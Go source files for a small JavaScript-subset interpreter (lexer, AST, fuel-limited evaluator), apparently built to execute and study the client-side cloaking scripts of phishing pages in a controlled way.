	condExpr struct {
		Cond, Then, Else expr
	}
	assignExpr struct {
		Op     string // = += -= *= /= %=
		Target expr   // identExpr or memberExpr
		Value  expr
	}
	callExpr struct {
		Callee expr
		Args   []expr
		Line   int
	}
	newExpr struct {
		Callee expr
		Args   []expr
	}
	memberExpr struct {
		Obj      expr
		Prop     expr // stringLit for dot access, arbitrary for [..]
		Computed bool
	}
	seqExpr struct {
		Exprs []expr
	}
)

func (*numberLit) exprNode()   {}
func (*stringLit) exprNode()   {}
func (*boolLit) exprNode()     {}
func (*nullLit) exprNode()     {}
func (*undefLit) exprNode()    {}
func (*identExpr) exprNode()   {}
func (*thisExpr) exprNode()    {}
func (*arrayLit) exprNode()    {}
func (*objectLit) exprNode()   {}
func (*funcLit) exprNode()     {}
func (*unaryExpr) exprNode()   {}
func (*updateExpr) exprNode()  {}
func (*binaryExpr) exprNode()  {}
func (*logicalExpr) exprNode() {}
func (*condExpr) exprNode()    {}
func (*assignExpr) exprNode()  {}
func (*callExpr) exprNode()    {}
func (*newExpr) exprNode()     {}
func (*memberExpr) exprNode()  {}
func (*seqExpr) exprNode()     {}

// Program is a parsed script.
type Program struct {
	stmts []stmt
}
