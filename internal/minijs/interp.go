package minijs

import (
	"errors"
	"fmt"
	"math"
)

// ErrFuelExhausted is returned when a script exceeds its execution budget.
// It is not catchable by script-level try/catch: hostile pages run infinite
// debugger loops precisely to stall analysis, and the interpreter must
// terminate them deterministically.
var ErrFuelExhausted = errors.New("minijs: execution fuel exhausted")

// DefaultFuel is the default execution budget (abstract operations).
const DefaultFuel = 2_000_000

// environment is a lexical scope.
type environment struct {
	vars   map[string]Value
	parent *environment
}

func newEnvironment(parent *environment) *environment {
	return &environment{vars: map[string]Value{}, parent: parent}
}

func (e *environment) lookup(name string) (Value, bool) {
	for env := e; env != nil; env = env.parent {
		if v, ok := env.vars[name]; ok {
			return v, true
		}
	}
	return Undefined, false
}

func (e *environment) assign(name string, v Value) bool {
	for env := e; env != nil; env = env.parent {
		if _, ok := env.vars[name]; ok {
			env.vars[name] = v
			return true
		}
	}
	return false
}

func (e *environment) define(name string, v Value) {
	e.vars[name] = v
}

// Interp executes programs against a global environment.
type Interp struct {
	global *environment
	fuel   int64
	// OnDebugger, when set, is invoked for every debugger statement — the
	// hook the anti-debugging timer checks in the corpus rely on.
	OnDebugger func()
	// Random supplies Math.random; defaults to a fixed sequence for
	// determinism. Embedders install a seeded source.
	Random func() float64
	// Now supplies Date.now() in milliseconds; defaults to a fixed epoch
	// that embedders (the simulated browser's virtual clock) override.
	Now func() float64
}

// New returns an interpreter with the standard builtins installed and the
// given fuel budget (DefaultFuel if <= 0).
func New(fuel int64) *Interp {
	if fuel <= 0 {
		fuel = DefaultFuel
	}
	ip := &Interp{
		global: newEnvironment(nil),
		fuel:   fuel,
		Random: func() float64 { return 0.5 },
		Now:    func() float64 { return 1704067200000 }, // 2024-01-01T00:00:00Z
	}
	ip.installBuiltins()
	return ip
}

// SetGlobal defines a global binding.
func (ip *Interp) SetGlobal(name string, v Value) {
	ip.global.define(name, v)
}

// Global reads a global binding.
func (ip *Interp) Global(name string) (Value, bool) {
	return ip.global.lookup(name)
}

// Fuel returns the remaining execution budget.
func (ip *Interp) Fuel() int64 { return ip.fuel }

// AddFuel extends the execution budget (used by event-loop embedders that
// grant each timer callback its own slice).
func (ip *Interp) AddFuel(n int64) { ip.fuel += n }

// Run executes a parsed program.
func (ip *Interp) Run(prog *Program) error {
	_, err := ip.runStmts(prog.stmts, ip.global)
	if ts, ok := err.(*throwSignal); ok {
		return fmt.Errorf("minijs: uncaught exception: %s", ts.value.ToString())
	}
	return err
}

// Eval parses and executes source, returning the value of the last
// expression statement.
func (ip *Interp) Eval(src string) (Value, error) {
	prog, err := Parse(src)
	if err != nil {
		return Undefined, err
	}
	v, err := ip.runStmts(prog.stmts, ip.global)
	if ts, ok := err.(*throwSignal); ok {
		return Undefined, fmt.Errorf("minijs: uncaught exception: %s", ts.value.ToString())
	}
	return v, err
}

// CallFunction invokes a script or host function value from Go.
func (ip *Interp) CallFunction(fn Value, this Value, args []Value) (Value, error) {
	v, err := ip.call(fn, this, args, 0)
	if ts, ok := err.(*throwSignal); ok {
		return Undefined, fmt.Errorf("minijs: uncaught exception: %s", ts.value.ToString())
	}
	return v, err
}

// Throw constructs a script-catchable exception from Go host code.
func Throw(name, message string) error {
	obj := NewObject()
	obj.Class = ClassError
	obj.Set("name", String(name))
	obj.Set("message", String(message))
	return &throwSignal{value: ObjectValue(obj)}
}

// Control-flow signals travel as errors.
type (
	breakSignal    struct{}
	continueSignal struct{}
	returnSignal   struct{ value Value }
	throwSignal    struct{ value Value }
)

func (*breakSignal) Error() string    { return "break outside loop" }
func (*continueSignal) Error() string { return "continue outside loop" }
func (*returnSignal) Error() string   { return "return outside function" }
func (t *throwSignal) Error() string  { return "uncaught: " + t.value.ToString() }

func (ip *Interp) burn() error {
	ip.fuel--
	if ip.fuel <= 0 {
		return ErrFuelExhausted
	}
	return nil
}

func (ip *Interp) runStmts(stmts []stmt, env *environment) (Value, error) {
	// Hoist function declarations.
	for _, s := range stmts {
		if fd, ok := s.(*funcDeclStmt); ok {
			env.define(fd.Name, ip.makeFunction(fd.Fn, env, nil))
		}
	}
	var last Value
	for _, s := range stmts {
		v, err := ip.execStmt(s, env)
		if err != nil {
			return Undefined, err
		}
		if v.kind != 0 {
			last = v
		}
	}
	return last, nil
}

// execStmt executes one statement; expression statements yield their value.
func (ip *Interp) execStmt(s stmt, env *environment) (Value, error) {
	if err := ip.burn(); err != nil {
		return Undefined, err
	}
	switch n := s.(type) {
	case *emptyStmt:
		return Undefined, nil
	case *varStmt:
		for i, name := range n.Names {
			var v Value
			if n.Inits[i] != nil {
				var err error
				v, err = ip.evalExpr(n.Inits[i], env)
				if err != nil {
					return Undefined, err
				}
			} else {
				v = Undefined
			}
			env.define(name, v)
		}
		return Undefined, nil
	case *funcDeclStmt:
		return Undefined, nil // hoisted
	case *exprStmt:
		return ip.evalExpr(n.E, env)
	case *blockStmt:
		inner := newEnvironment(env)
		_, err := ip.runStmts(n.Stmts, inner)
		return Undefined, err
	case *ifStmt:
		cond, err := ip.evalExpr(n.Cond, env)
		if err != nil {
			return Undefined, err
		}
		if cond.Truthy() {
			return ip.execStmt(n.Then, env)
		}
		if n.Else != nil {
			return ip.execStmt(n.Else, env)
		}
		return Undefined, nil
	case *whileStmt:
		for {
			cond, err := ip.evalExpr(n.Cond, env)
			if err != nil {
				return Undefined, err
			}
			if !cond.Truthy() {
				return Undefined, nil
			}
			if stop, err := ip.loopBody(n.Body, env); stop || err != nil {
				return Undefined, err
			}
		}
	case *doWhileStmt:
		for {
			if stop, err := ip.loopBody(n.Body, env); stop || err != nil {
				return Undefined, err
			}
			cond, err := ip.evalExpr(n.Cond, env)
			if err != nil {
				return Undefined, err
			}
			if !cond.Truthy() {
				return Undefined, nil
			}
		}
	case *forStmt:
		inner := newEnvironment(env)
		if n.Init != nil {
			if _, err := ip.execStmt(n.Init, inner); err != nil {
				return Undefined, err
			}
		}
		for {
			if n.Cond != nil {
				cond, err := ip.evalExpr(n.Cond, inner)
				if err != nil {
					return Undefined, err
				}
				if !cond.Truthy() {
					return Undefined, nil
				}
			}
			if stop, err := ip.loopBody(n.Body, inner); stop || err != nil {
				return Undefined, err
			}
			if n.Post != nil {
				if _, err := ip.evalExpr(n.Post, inner); err != nil {
					return Undefined, err
				}
			}
		}
	case *forInStmt:
		obj, err := ip.evalExpr(n.Obj, env)
		if err != nil {
			return Undefined, err
		}
		inner := newEnvironment(env)
		inner.define(n.Name, Undefined)
		var items []Value
		switch {
		case obj.kind == KindObject && obj.obj.Class == ClassArray:
			if n.Of {
				items = append(items, obj.obj.Elems...)
			} else {
				for i := range obj.obj.Elems {
					items = append(items, String(trimFloat(float64(i))))
				}
			}
		case obj.kind == KindObject:
			for _, k := range obj.obj.Keys() {
				if n.Of {
					items = append(items, obj.obj.Props[k])
				} else {
					items = append(items, String(k))
				}
			}
		case obj.kind == KindString && n.Of:
			for _, r := range obj.str {
				items = append(items, String(string(r)))
			}
		}
		for _, item := range items {
			inner.vars[n.Name] = item
			if stop, err := ip.loopBody(n.Body, inner); stop || err != nil {
				return Undefined, err
			}
		}
		return Undefined, nil
	case *returnStmt:
		var v Value
		if n.Value != nil {
			var err error
			v, err = ip.evalExpr(n.Value, env)
			if err != nil {
				return Undefined, err
			}
		} else {
			v = Undefined
		}
		return Undefined, &returnSignal{value: v}
	case *breakStmt:
		return Undefined, &breakSignal{}
	case *continueStmt:
		return Undefined, &continueSignal{}
	case *throwStmt:
		v, err := ip.evalExpr(n.Value, env)
		if err != nil {
			return Undefined, err
		}
		return Undefined, &throwSignal{value: v}
	case *tryStmt:
		_, err := ip.execStmt(n.Block, env)
		if ts, ok := err.(*throwSignal); ok && n.Catch != nil {
			inner := newEnvironment(env)
			if n.CatchName != "" {
				inner.define(n.CatchName, ts.value)
			}
			_, err = ip.runStmts(n.Catch.Stmts, inner)
		}
		if n.Finally != nil {
			if _, ferr := ip.execStmt(n.Finally, env); ferr != nil {
				return Undefined, ferr
			}
		}
		return Undefined, err
	case *debuggerStmt:
		if ip.OnDebugger != nil {
			ip.OnDebugger()
		}
		return Undefined, nil
	case *switchStmt:
		subject, err := ip.evalExpr(n.Subject, env)
		if err != nil {
			return Undefined, err
		}
		inner := newEnvironment(env)
		matched := false
		defaultIdx := -1
		for idx, c := range n.Cases {
			if c.Test == nil {
				defaultIdx = idx
				continue
			}
			if !matched {
				v, err := ip.evalExpr(c.Test, inner)
				if err != nil {
					return Undefined, err
				}
				matched = StrictEquals(subject, v)
			}
			if matched {
				if stop, err := ip.runSwitchBody(n.Cases[idx:], inner); stop || err != nil {
					return Undefined, err
				}
				return Undefined, nil
			}
		}
		if defaultIdx >= 0 {
			if _, err := ip.runSwitchBody(n.Cases[defaultIdx:], inner); err != nil {
				return Undefined, err
			}
		}
		return Undefined, nil
	default:
		return Undefined, fmt.Errorf("minijs: unhandled statement %T", s)
	}
}

// runSwitchBody executes case bodies with fall-through until a break.
// stop=true means a break terminated the switch.
func (ip *Interp) runSwitchBody(cases []switchCase, env *environment) (bool, error) {
	for _, c := range cases {
		for _, s := range c.Body {
			_, err := ip.execStmt(s, env)
			if _, ok := err.(*breakSignal); ok {
				return true, nil
			}
			if err != nil {
				return false, err
			}
		}
	}
	return false, nil
}

// loopBody executes a loop body, translating break/continue signals.
// stop=true means break.
func (ip *Interp) loopBody(body stmt, env *environment) (bool, error) {
	_, err := ip.execStmt(body, env)
	switch err.(type) {
	case *breakSignal:
		return true, nil
	case *continueSignal:
		return false, nil
	}
	return false, err
}

func (ip *Interp) makeFunction(fn *funcLit, env *environment, boundThis *Value) Value {
	return ObjectValue(&Object{
		Class:     ClassFunction,
		Props:     map[string]Value{},
		fn:        fn,
		env:       env,
		boundThis: boundThis,
	})
}

func (ip *Interp) evalExpr(e expr, env *environment) (Value, error) {
	return ip.evalExprThis(e, env, Undefined)
}

func (ip *Interp) evalExprThis(e expr, env *environment, this Value) (Value, error) {
	if err := ip.burn(); err != nil {
		return Undefined, err
	}
	switch n := e.(type) {
	case *numberLit:
		return Number(n.Value), nil
	case *stringLit:
		return String(n.Value), nil
	case *boolLit:
		return Bool(n.Value), nil
	case *nullLit:
		return Null, nil
	case *undefLit:
		return Undefined, nil
	case *thisExpr:
		if v, ok := env.lookup("this"); ok {
			return v, nil
		}
		return Undefined, nil
	case *identExpr:
		if v, ok := env.lookup(n.Name); ok {
			return v, nil
		}
		return Undefined, &throwSignal{value: errorValue("ReferenceError", n.Name+" is not defined")}
	case *arrayLit:
		arr := NewArray()
		for _, el := range n.Elems {
			v, err := ip.evalExpr(el, env)
			if err != nil {
				return Undefined, err
			}
			arr.Elems = append(arr.Elems, v)
		}
		return ObjectValue(arr), nil
	case *objectLit:
		obj := NewObject()
		for i, key := range n.Keys {
			v, err := ip.evalExpr(n.Values[i], env)
			if err != nil {
				return Undefined, err
			}
			obj.Set(key, v)
		}
		return ObjectValue(obj), nil
	case *funcLit:
		if n.Arrow {
			captured, _ := env.lookup("this")
			return ip.makeFunction(n, env, &captured), nil
		}
		return ip.makeFunction(n, env, nil), nil
	case *unaryExpr:
		return ip.evalUnary(n, env)
	case *updateExpr:
		return ip.evalUpdate(n, env)
	case *binaryExpr:
		return ip.evalBinary(n, env)
	case *logicalExpr:
		left, err := ip.evalExpr(n.Left, env)
		if err != nil {
			return Undefined, err
		}
		switch n.Op {
		case "&&":
			if !left.Truthy() {
				return left, nil
			}
		case "||":
			if left.Truthy() {
				return left, nil
			}
		case "??":
			if !left.IsNullish() {
				return left, nil
			}
		}
		return ip.evalExpr(n.Right, env)
	case *condExpr:
		cond, err := ip.evalExpr(n.Cond, env)
		if err != nil {
			return Undefined, err
		}
		if cond.Truthy() {
			return ip.evalExpr(n.Then, env)
		}
		return ip.evalExpr(n.Else, env)
	case *assignExpr:
		return ip.evalAssign(n, env)
	case *seqExpr:
		var last Value
		for _, sub := range n.Exprs {
			v, err := ip.evalExpr(sub, env)
			if err != nil {
				return Undefined, err
			}
			last = v
		}
		return last, nil
	case *memberExpr:
		objVal, err := ip.evalExpr(n.Obj, env)
		if err != nil {
			return Undefined, err
		}
		prop, err := ip.propName(n, env)
		if err != nil {
			return Undefined, err
		}
		return ip.getMember(objVal, prop)
	case *callExpr:
		return ip.evalCall(n, env)
	case *newExpr:
		callee, err := ip.evalExpr(n.Callee, env)
		if err != nil {
			return Undefined, err
		}
		args, err := ip.evalArgs(n.Args, env)
		if err != nil {
			return Undefined, err
		}
		return ip.construct(callee, args)
	default:
		return Undefined, fmt.Errorf("minijs: unhandled expression %T", e)
	}
}

func (ip *Interp) propName(n *memberExpr, env *environment) (string, error) {
	if !n.Computed {
		return n.Prop.(*stringLit).Value, nil
	}
	v, err := ip.evalExpr(n.Prop, env)
	if err != nil {
		return "", err
	}
	return v.ToString(), nil
}

func (ip *Interp) evalArgs(args []expr, env *environment) ([]Value, error) {
	out := make([]Value, 0, len(args))
	for _, a := range args {
		v, err := ip.evalExpr(a, env)
		if err != nil {
			return nil, err
		}
		out = append(out, v)
	}
	return out, nil
}

func (ip *Interp) evalCall(n *callExpr, env *environment) (Value, error) {
	// Method call: capture the receiver.
	if mem, ok := n.Callee.(*memberExpr); ok {
		objVal, err := ip.evalExpr(mem.Obj, env)
		if err != nil {
			return Undefined, err
		}
		prop, err := ip.propName(mem, env)
		if err != nil {
			return Undefined, err
		}
		fn, err := ip.getMember(objVal, prop)
		if err != nil {
			return Undefined, err
		}
		args, err := ip.evalArgs(n.Args, env)
		if err != nil {
			return Undefined, err
		}
		if fn.kind != KindObject || !fn.obj.Callable() {
			return Undefined, &throwSignal{value: errorValue("TypeError",
				fmt.Sprintf("%s is not a function (line %d)", prop, n.Line))}
		}
		return ip.call(fn, objVal, args, n.Line)
	}
	fn, err := ip.evalExpr(n.Callee, env)
	if err != nil {
		return Undefined, err
	}
	args, err := ip.evalArgs(n.Args, env)
	if err != nil {
		return Undefined, err
	}
	if fn.kind != KindObject || !fn.obj.Callable() {
		return Undefined, &throwSignal{value: errorValue("TypeError",
			fmt.Sprintf("value is not a function (line %d)", n.Line))}
	}
	return ip.call(fn, Undefined, args, n.Line)
}

func (ip *Interp) call(fn Value, this Value, args []Value, line int) (Value, error) {
	if err := ip.burn(); err != nil {
		return Undefined, err
	}
	o := fn.obj
	if o == nil {
		return Undefined, &throwSignal{value: errorValue("TypeError", "not callable")}
	}
	if o.host != nil {
		return o.host(ip, this, args)
	}
	if o.fn == nil {
		return Undefined, &throwSignal{value: errorValue("TypeError", "not callable")}
	}
	callEnv := newEnvironment(o.env)
	effectiveThis := this
	if o.boundThis != nil {
		effectiveThis = *o.boundThis
	}
	callEnv.define("this", effectiveThis)
	for i, p := range o.fn.Params {
		if i < len(args) {
			callEnv.define(p, args[i])
		} else {
			callEnv.define(p, Undefined)
		}
	}
	argsArr := NewArray(args...)
	callEnv.define("arguments", ObjectValue(argsArr))
	_, err := ip.runStmts(o.fn.Body.Stmts, callEnv)
	if rs, ok := err.(*returnSignal); ok {
		return rs.value, nil
	}
	if err != nil {
		return Undefined, err
	}
	return Undefined, nil
}

// construct implements `new`.
func (ip *Interp) construct(callee Value, args []Value) (Value, error) {
	if callee.kind != KindObject || !callee.obj.Callable() {
		return Undefined, &throwSignal{value: errorValue("TypeError", "not a constructor")}
	}
	instance := NewObject()
	result, err := ip.call(callee, ObjectValue(instance), args, 0)
	if err != nil {
		return Undefined, err
	}
	if result.kind == KindObject {
		return result, nil
	}
	return ObjectValue(instance), nil
}

func (ip *Interp) evalUnary(n *unaryExpr, env *environment) (Value, error) {
	if n.Op == "delete" {
		if mem, ok := n.Operand.(*memberExpr); ok {
			objVal, err := ip.evalExpr(mem.Obj, env)
			if err != nil {
				return Undefined, err
			}
			prop, err := ip.propName(mem, env)
			if err != nil {
				return Undefined, err
			}
			if objVal.kind == KindObject {
				delete(objVal.obj.Props, prop)
			}
			return True, nil
		}
		return True, nil
	}
	if n.Op == "typeof" {
		// typeof of an undefined identifier must not throw.
		if id, ok := n.Operand.(*identExpr); ok {
			if v, found := env.lookup(id.Name); found {
				return String(v.TypeOf()), nil
			}
			return String("undefined"), nil
		}
	}
	v, err := ip.evalExpr(n.Operand, env)
	if err != nil {
		return Undefined, err
	}
	switch n.Op {
	case "!":
		return Bool(!v.Truthy()), nil
	case "-":
		return Number(-v.ToNumber()), nil
	case "+":
		return Number(v.ToNumber()), nil
	case "~":
		return Number(float64(^toInt32(v.ToNumber()))), nil
	case "typeof":
		return String(v.TypeOf()), nil
	case "void":
		return Undefined, nil
	default:
		return Undefined, fmt.Errorf("minijs: unhandled unary operator %q", n.Op)
	}
}

func (ip *Interp) evalUpdate(n *updateExpr, env *environment) (Value, error) {
	old, err := ip.evalExpr(n.Operand, env)
	if err != nil {
		return Undefined, err
	}
	delta := 1.0
	if n.Op == "--" {
		delta = -1
	}
	updated := Number(old.ToNumber() + delta)
	if err := ip.assignTo(n.Operand, updated, env); err != nil {
		return Undefined, err
	}
	if n.Prefix {
		return updated, nil
	}
	return Number(old.ToNumber()), nil
}

func (ip *Interp) evalAssign(n *assignExpr, env *environment) (Value, error) {
	val, err := ip.evalExpr(n.Value, env)
	if err != nil {
		return Undefined, err
	}
	if n.Op != "=" {
		old, err := ip.evalExpr(n.Target, env)
		if err != nil {
			return Undefined, err
		}
		op := n.Op[:len(n.Op)-1]
		val, err = applyBinary(op, old, val)
		if err != nil {
			return Undefined, err
		}
	}
	if err := ip.assignTo(n.Target, val, env); err != nil {
		return Undefined, err
	}
	return val, nil
}

func (ip *Interp) assignTo(target expr, val Value, env *environment) error {
	switch t := target.(type) {
	case *identExpr:
		if !env.assign(t.Name, val) {
			// Implicit global, as sloppy-mode JS does.
			ip.global.define(t.Name, val)
		}
		return nil
	case *memberExpr:
		objVal, err := ip.evalExpr(t.Obj, env)
		if err != nil {
			return err
		}
		prop, err := ip.propName(t, env)
		if err != nil {
			return err
		}
		return ip.setMember(objVal, prop, val)
	default:
		return &throwSignal{value: errorValue("SyntaxError", "invalid assignment target")}
	}
}

func (ip *Interp) evalBinary(n *binaryExpr, env *environment) (Value, error) {
	left, err := ip.evalExpr(n.Left, env)
	if err != nil {
		return Undefined, err
	}
	right, err := ip.evalExpr(n.Right, env)
	if err != nil {
		return Undefined, err
	}
	if n.Op == "in" {
		if right.kind == KindObject {
			return Bool(right.obj.Has(left.ToString())), nil
		}
		return False, nil
	}
	if n.Op == "instanceof" {
		// Approximate: error values are instanceof Error, everything else false.
		return Bool(left.kind == KindObject && left.obj.Class == ClassError), nil
	}
	return applyBinary(n.Op, left, right)
}

func applyBinary(op string, left, right Value) (Value, error) {
	switch op {
	case "+":
		if left.kind == KindString || right.kind == KindString ||
			(left.kind == KindObject && left.obj.Class != ClassFunction) ||
			(right.kind == KindObject && right.obj.Class != ClassFunction) {
			return String(left.ToString() + right.ToString()), nil
		}
		return Number(left.ToNumber() + right.ToNumber()), nil
	case "-":
		return Number(left.ToNumber() - right.ToNumber()), nil
	case "*":
		return Number(left.ToNumber() * right.ToNumber()), nil
	case "/":
		return Number(left.ToNumber() / right.ToNumber()), nil
	case "%":
		return Number(math.Mod(left.ToNumber(), right.ToNumber())), nil
	case "==":
		return Bool(LooseEquals(left, right)), nil
	case "!=":
		return Bool(!LooseEquals(left, right)), nil
	case "===":
		return Bool(StrictEquals(left, right)), nil
	case "!==":
		return Bool(!StrictEquals(left, right)), nil
	case "<", ">", "<=", ">=":
		if left.kind == KindString && right.kind == KindString {
			switch op {
			case "<":
				return Bool(left.str < right.str), nil
			case ">":
				return Bool(left.str > right.str), nil
			case "<=":
				return Bool(left.str <= right.str), nil
			default:
				return Bool(left.str >= right.str), nil
			}
		}
		a, b := left.ToNumber(), right.ToNumber()
		if math.IsNaN(a) || math.IsNaN(b) {
			return False, nil
		}
		switch op {
		case "<":
			return Bool(a < b), nil
		case ">":
			return Bool(a > b), nil
		case "<=":
			return Bool(a <= b), nil
		default:
			return Bool(a >= b), nil
		}
	case "&":
		return Number(float64(toInt32(left.ToNumber()) & toInt32(right.ToNumber()))), nil
	case "|":
		return Number(float64(toInt32(left.ToNumber()) | toInt32(right.ToNumber()))), nil
	case "^":
		return Number(float64(toInt32(left.ToNumber()) ^ toInt32(right.ToNumber()))), nil
	case "<<":
		return Number(float64(toInt32(left.ToNumber()) << (uint32(toInt32(right.ToNumber())) & 31))), nil
	case ">>":
		return Number(float64(toInt32(left.ToNumber()) >> (uint32(toInt32(right.ToNumber())) & 31))), nil
	case ">>>":
		return Number(float64(uint32(toInt32(left.ToNumber())) >> (uint32(toInt32(right.ToNumber())) & 31))), nil
	default:
		return Undefined, fmt.Errorf("minijs: unhandled binary operator %q", op)
	}
}

func toInt32(f float64) int32 {
	if math.IsNaN(f) || math.IsInf(f, 0) {
		return 0
	}
	return int32(int64(f))
}

func errorValue(name, message string) Value {
	obj := NewObject()
	obj.Class = ClassError
	obj.Set("name", String(name))
	obj.Set("message", String(message))
	return ObjectValue(obj)
}
