// Package minijs implements an interpreter for a JavaScript subset — the
// execution substrate for the client-side cloaking scripts that the paper's
// phishing pages run: fingerprint probes of navigator.*, console-method
// hijacking, debugger-timer loops, base64-obfuscated payload decoding
// (atob), victim-tracking AJAX calls, and location rewrites.
//
// The language covers: var/let/const, functions (declarations, expressions,
// arrows), closures, objects, arrays, strings, numbers, booleans,
// if/while/for, try/catch/finally, throw, new, typeof, the ternary and
// logical operators, ++/--, compound assignment, and a host-interop layer
// for browser objects. Execution is fuel-limited so hostile scripts
// (infinite debugger loops) terminate deterministically.
package minijs

import (
	"fmt"
	"strings"
)

// tokenKind discriminates lexical tokens.
type tokenKind int

const (
	tokEOF tokenKind = iota + 1
	tokNumber
	tokString
	tokIdent
	tokKeyword
	tokPunct
)

type token struct {
	kind tokenKind
	text string
	num  float64
	line int
}

var _keywords = map[string]bool{
	"var": true, "let": true, "const": true, "function": true,
	"return": true, "if": true, "else": true, "while": true, "for": true,
	"break": true, "continue": true, "true": true, "false": true,
	"null": true, "undefined": true, "new": true, "typeof": true,
	"try": true, "catch": true, "finally": true, "throw": true,
	"debugger": true, "delete": true, "in": true, "of": true,
	"instanceof": true, "this": true, "do": true, "switch": true,
	"case": true, "default": true, "void": true,
}

// _puncts lists multi-character punctuators longest-first.
var _puncts = []string{
	"===", "!==", ">>>", "**=", "...",
	"==", "!=", "<=", ">=", "&&", "||", "=>", "++", "--",
	"+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<", ">>", "**",
	"??",
	"+", "-", "*", "/", "%", "=", "<", ">", "!", "?", ":", ";", ",",
	".", "(", ")", "[", "]", "{", "}", "&", "|", "^", "~",
}

// SyntaxError reports a lexing or parsing failure with a line number.
type SyntaxError struct {
	Line int
	Msg  string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("minijs: line %d: %s", e.Line, e.Msg)
}

// lex tokenizes src.
func lex(src string) ([]token, error) {
	var toks []token
	line := 1
	i := 0
	n := len(src)
	for i < n {
		c := src[i]
		switch {
		case c == '\n':
			line++
			i++
		case c == ' ' || c == '\t' || c == '\r':
			i++
		case c == '/' && i+1 < n && src[i+1] == '/':
			for i < n && src[i] != '\n' {
				i++
			}
		case c == '/' && i+1 < n && src[i+1] == '*':
			i += 2
			for i+1 < n && !(src[i] == '*' && src[i+1] == '/') {
				if src[i] == '\n' {
					line++
				}
				i++
			}
			i += 2
		case c >= '0' && c <= '9' || (c == '.' && i+1 < n && src[i+1] >= '0' && src[i+1] <= '9'):
			start := i
			isHex := false
			if c == '0' && i+1 < n && (src[i+1] == 'x' || src[i+1] == 'X') {
				isHex = true
				i += 2
				for i < n && isHexDigit(src[i]) {
					i++
				}
			} else {
				for i < n && (src[i] >= '0' && src[i] <= '9' || src[i] == '.') {
					i++
				}
				if i < n && (src[i] == 'e' || src[i] == 'E') {
					i++
					if i < n && (src[i] == '+' || src[i] == '-') {
						i++
					}
					for i < n && src[i] >= '0' && src[i] <= '9' {
						i++
					}
				}
			}
			text := src[start:i]
			num, err := parseNumberLiteral(text, isHex)
			if err != nil {
				return nil, &SyntaxError{Line: line, Msg: "bad number literal " + text}
			}
			toks = append(toks, token{kind: tokNumber, text: text, num: num, line: line})
		case c == '"' || c == '\'':
			quote := c
			i++
			var sb strings.Builder
			for i < n && src[i] != quote {
				if src[i] == '\\' && i+1 < n {
					i++
					switch src[i] {
					case 'n':
						sb.WriteByte('\n')
					case 't':
						sb.WriteByte('\t')
					case 'r':
						sb.WriteByte('\r')
					case '0':
						sb.WriteByte(0)
					case 'x':
						if i+2 < n && isHexDigit(src[i+1]) && isHexDigit(src[i+2]) {
							sb.WriteByte(hexVal(src[i+1])<<4 | hexVal(src[i+2]))
							i += 2
						}
					case 'u':
						if i+4 < n {
							var r rune
							ok := true
							for k := 1; k <= 4; k++ {
								if !isHexDigit(src[i+k]) {
									ok = false
									break
								}
								r = r<<4 | rune(hexVal(src[i+k]))
							}
							if ok {
								sb.WriteRune(r)
								i += 4
							}
						}
					default:
						sb.WriteByte(src[i])
					}
					i++
					continue
				}
				if src[i] == '\n' {
					return nil, &SyntaxError{Line: line, Msg: "unterminated string"}
				}
				sb.WriteByte(src[i])
				i++
			}
			if i >= n {
				return nil, &SyntaxError{Line: line, Msg: "unterminated string"}
			}
			i++ // closing quote
			toks = append(toks, token{kind: tokString, text: sb.String(), line: line})
		case isIdentStart(c):
			start := i
			for i < n && isIdentPart(src[i]) {
				i++
			}
			text := src[start:i]
			kind := tokIdent
			if _keywords[text] {
				kind = tokKeyword
			}
			toks = append(toks, token{kind: kind, text: text, line: line})
		default:
			matched := false
			for _, p := range _puncts {
				if strings.HasPrefix(src[i:], p) {
					toks = append(toks, token{kind: tokPunct, text: p, line: line})
					i += len(p)
					matched = true
					break
				}
			}
			if !matched {
				return nil, &SyntaxError{Line: line, Msg: fmt.Sprintf("unexpected character %q", c)}
			}
		}
	}
	toks = append(toks, token{kind: tokEOF, line: line})
	return toks, nil
}

func parseNumberLiteral(text string, isHex bool) (float64, error) {
	if isHex {
		var v float64
		for _, r := range text[2:] {
			v = v*16 + float64(hexVal(byte(r)))
		}
		return v, nil
	}
	var v float64
	var frac float64
	var fracDiv float64 = 1
	inFrac := false
	i := 0
	for i < len(text) {
		c := text[i]
		switch {
		case c == '.':
			if inFrac {
				return 0, fmt.Errorf("two dots")
			}
			inFrac = true
		case c == 'e' || c == 'E':
			// Exponent: parse remainder as integer.
			exp := 0
			sign := 1
			i++
			if i < len(text) && (text[i] == '+' || text[i] == '-') {
				if text[i] == '-' {
					sign = -1
				}
				i++
			}
			for ; i < len(text); i++ {
				exp = exp*10 + int(text[i]-'0')
			}
			base := v + frac/fracDiv
			for k := 0; k < exp; k++ {
				if sign > 0 {
					base *= 10
				} else {
					base /= 10
				}
			}
			return base, nil
		case c >= '0' && c <= '9':
			if inFrac {
				frac = frac*10 + float64(c-'0')
				fracDiv *= 10
			} else {
				v = v*10 + float64(c-'0')
			}
		default:
			return 0, fmt.Errorf("bad digit %q", c)
		}
		i++
	}
	return v + frac/fracDiv, nil
}

func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

func isIdentPart(c byte) bool {
	return isIdentStart(c) || c >= '0' && c <= '9'
}

func isHexDigit(c byte) bool {
	return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
}

func hexVal(c byte) byte {
	switch {
	case c >= '0' && c <= '9':
		return c - '0'
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10
	default:
		return c - 'A' + 10
	}
}
