package minijs

import "fmt"

// Parse compiles source text into a Program.
func Parse(src string) (*Program, error) {
	toks, err := lex(src)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	var stmts []stmt
	for !p.at(tokEOF) {
		s, err := p.statement()
		if err != nil {
			return nil, err
		}
		stmts = append(stmts, s)
	}
	return &Program{stmts: stmts}, nil
}

type parser struct {
	toks []token
	pos  int
}

// cur returns the current token. The lexer always terminates the stream
// with tokEOF, but a parse path that consumes EOF (hostile input reaching a
// production that unconditionally advances) must see EOF again rather than
// run off the slice.
func (p *parser) cur() token {
	if p.pos >= len(p.toks) {
		return token{kind: tokEOF}
	}
	return p.toks[p.pos]
}

func (p *parser) next() token {
	t := p.cur()
	if p.pos < len(p.toks) {
		p.pos++
	}
	return t
}

func (p *parser) at(kind tokenKind) bool { return p.cur().kind == kind }

func (p *parser) atPunct(text string) bool {
	return p.cur().kind == tokPunct && p.cur().text == text
}

func (p *parser) atKeyword(text string) bool {
